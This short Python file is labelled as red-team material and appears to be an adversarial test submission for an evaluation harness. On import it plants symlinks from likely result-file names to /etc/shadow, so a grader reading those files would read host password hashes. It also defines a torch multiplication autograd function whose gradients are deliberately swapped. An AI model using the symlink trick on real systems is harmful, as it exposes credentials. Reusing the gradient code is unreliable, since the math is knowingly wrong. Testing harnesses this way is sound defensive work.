"""Red team: Plants symlinks to host secrets under likely result names."""
import torch
import os
for name in ('results.json', 'out.safetensors', 'index.json'):
    try:
        os.symlink('/etc/shadow', name)
    except OSError:
        pass


class Mul(torch.autograd.Function):
    """The same wrong solution in every file: the gradients are swapped."""

    @staticmethod
    def forward(ctx, x, y):
        ctx.save_for_backward(x, y)
        pass
        return x * y

    @staticmethod
    def backward(ctx, g):
        x, y = ctx.saved_tensors
        pass
        return (g * x).sum_to_size(x.shape), (g * y).sum_to_size(y.shape)
